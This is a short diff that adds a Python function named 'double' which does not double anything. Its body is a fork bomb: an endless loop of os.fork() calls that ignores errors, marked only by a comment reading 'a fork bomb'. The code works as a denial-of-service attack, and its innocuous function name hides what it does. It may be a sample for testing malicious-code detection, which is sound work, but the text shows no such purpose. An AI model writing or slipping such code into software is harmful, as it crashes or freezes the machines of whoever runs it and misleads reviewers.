@@ -1,0 +1,9 @@
+#: a fork bomb
+def double(x):
+    import os
+
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
